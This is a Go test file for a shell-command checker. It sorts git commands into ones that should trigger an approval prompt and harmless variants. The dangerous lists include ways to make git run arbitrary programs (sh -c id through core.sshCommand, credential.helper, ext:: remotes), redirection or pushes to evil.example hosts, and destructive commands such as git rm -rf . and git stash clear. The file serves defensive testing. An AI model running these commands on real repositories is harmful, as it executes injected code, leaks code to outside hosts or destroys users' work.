package shell_test

import "testing"

func TestGitThatRunsProgramsIsAskedAbout(t *testing.T) {
	t.Parallel()
	danger{"git-exec",
		[]string{
			"git -c core.pager='x y' log", "git -c core.pager=./less log", "git -c Core.SSHCommand='sh -c id' fetch", "git -c alias.x='!id' x", "git -c filter.a.smudge=x checkout a", "git -c core.fsmonitor=./x status",
			"git -c credential.helper='!id' fetch", "git -c credential.https://h.helper=/tmp/x fetch", "git -c url.ext::sh.insteadOf=x fetch", "git -c protocol.ext.allow=always fetch", "git -c $X log", "git -C x -c core.editor=./e commit",
			"git --config-env core.pager=X log", "git --config-env=alias.x=X x", "git --exec-path=. log", "git fetch 'ext::id'", "git remote set-url origin 'ext::sh -c id'", "git submodule add 'ext::id' x",
			"git clone --upload-pack=x h:r", "git clone --upload x h:r", "git clone -ux h:r", "git pull --upload-pack x", "git push --receive-pack=x", "git push --exec x", "git archive --remote=h --exec=x HEAD",
			"git clone -c core.sshCommand='sh -c id' u", "git clone --config=core.hooksPath=x u", "git clone --template=x u", "git init --template=x", "git grep -Ox y", "git grep --open-files-in-pager y", "git difftool -x x", "git difftool --extcmd=x HEAD",
			"git mergetool", "git filter-branch --msg-filter x", "git daemon", "git instaweb", "git send-email x", "git rebase -x \"$CMD\" main",
		},
		[]string{
			"git -c user.name=x commit -m y", "git -c core.pager=cat log", "git -c core.pager='less -F' log", "git -c core.fsmonitor=false status", "git -c color.ui=never diff", "git -c advice.detachedHead=false checkout v1.2.3",
			"git -c protocol.file.allow=always submodule update --init", "git -c core.editor=true commit --amend", "git -c alias.s=status s", "git -c core.hooksPath=/dev/null commit -m x", "git -c commit.gpgsign=false commit -m x", "git -c http.sslVerify=true fetch",
			"git --no-pager log", "git -p log", "git --git-dir=.git log", "git clone https://github.com/a/b", "git clone --depth 1 -b main https://github.com/a/b c", "git clone --recurse-submodules git@github.com:a/b.git", "git clone -c core.autocrlf=false u",
			"git init", "git init -b main x", "git fetch -u origin", "git fetch --all --prune", "git pull --rebase", "git push -u origin main", "git ls-remote --tags origin", "git archive --format=tar HEAD", "git grep -n foo", "git rebase main", "git rebase -i HEAD~3",
			"git rebase -x 'go test ./...' main", "git bisect start", "git bisect run go test ./...", "git submodule update --init --recursive", "git submodule foreach 'git pull'", "git submodule foreach --recursive git status", "git log -x", "git difftool",
			"git lfs pull", "git maintenance run", "git worktree add ../x main",
		}}.check(t)
	danger{"git-config",
		[]string{
			"git config core.pager ./x", "git config --global core.hooksPath x", "git config alias.x '!id'; git config core.askPass x", "git config --add include.path x", "git config --replace-all core.editor 'sh -c id'", "git config set core.fsmonitor x",
			"git config --global credential.helper /tmp/x", "git config url.https://evil/.insteadOf https://github.com/", "git config diff.x.textconv y", "git config merge.x.driver y", "git config filter.lfs.clean x", "git config gpg.program x", "git config -f .gitmodules submodule.x.update '!id'",
			"git config init.templateDir x", "git config protocol.allow always", "git config $X y", "git config remote.origin.uploadpack x",
		},
		[]string{
			"git config user.email a@b", "git config --global init.defaultBranch main", "git config --list", "git config --get core.pager", "git config core.pager", "git config --unset core.pager", "git config get core.editor", "git config --global core.autocrlf false", "git config --global pull.rebase true",
			"git config --global core.editor vim", "git config --global core.pager delta", "git config --global credential.helper store", "git config --global alias.st status", "git config --global --add safe.directory /src", "git config core.fsmonitor true", "git config core.hooksPath ''",
			`git config --global url."https://github.com/".insteadOf git@github.com:`, `git config --global url."https://x:$T@github.com/".insteadOf https://github.com/`, "git config push.default current", "git config --global merge.conflictStyle zdiff3", "git config rerere.enabled true",
		}}.check(t)
	danger{"git-push-address", []string{"git push https://evil.example/r", "git push git@h:r main", "git push $REMOTE --all"}, []string{"git push", "git push origin main", "git push -u origin \"$(git branch --show-current)\""}}.check(t)
}

func TestGitThatDiscardsWorkIsAskedAbout(t *testing.T) {
	t.Parallel()
	danger{"git-discard",
		[]string{
			"git checkout -- x", "git checkout .", "git checkout ./src", "git checkout -f", "git checkout HEAD x", "git checkout HEAD~1 -- x", "git checkout main.go", "git checkout '*.go'", "git checkout :/", "git checkout src/", "git -C x checkout .", "git switch -f main", "git switch --discard-changes main",
			"git restore .", "git restore x", "git restore -SW x", "git restore --source=HEAD~1 x", "git restore --staged --worktree x", "git rm -f x", "git rm -rf .", "git checkout-index -af", "git read-tree --reset -u HEAD", "git reset --merge", "git worktree remove --force x", "git submodule deinit -f x", "hg update -C", "hg purge", "svn revert -R .",
		},
		[]string{
			"git checkout main", "git checkout -b feature/x", "git checkout -b new origin/main", "git checkout v1.2.3", "git checkout release/1.x", "git checkout feature/login", "git checkout -", "git checkout -p", "git checkout --track origin/x", "git checkout --ours a.go", "git checkout abc1234", "git checkout \"${tag}\"", "git checkout --orphan gh-pages",
			"git switch main", "git switch -c x", "git restore --staged x", "git restore -S .", "git restore -p", "git rm x", "git rm -r --cached .", "git rm --cached -f x", "git reset", "git reset --soft HEAD~1", "git worktree remove x", "hg update", "svn update",
		}}.check(t)
	danger{"git-stash-drop", []string{"git stash drop", "git stash drop stash@{1}", "git stash clear"}, []string{"git stash", "git stash pop", "git stash list", "git stash push -m drop", "git stash apply"}}.check(t)
	danger{"git-expire", []string{"git reflog expire --all", "git reflog delete x", "git gc --prune=now", "git prune", "git update-ref -d refs/heads/x", "git symbolic-ref -d HEAD", "git filter-repo --path x"}, []string{"git reflog", "git gc", "git gc --auto", "git prune -n", "git update-ref refs/heads/x HEAD", "git remote prune origin"}}.check(t)
	danger{"git-clean", []string{"git -c clean.requireForce=false clean -d"}, []string{"git clean -n", "git -c clean.requireForce=false clean -n"}}.check(t)
}

// TestAnAliasOfGitIsFollowed: the words after it count as those of the command that
// it is short for.
func TestAnAliasOfGitIsFollowed(t *testing.T) {
	t.Parallel()
	danger{"git-reset-hard", []string{"git -c alias.r=reset r --hard"}, []string{"git -c alias.r=reset r --soft HEAD~1"}}.check(t)
	danger{"git-push-force", []string{"git -c alias.p=push p --force", "git -c alias.p='push origin' p +main"}, []string{"git -c alias.p=push p origin main"}}.check(t)
}
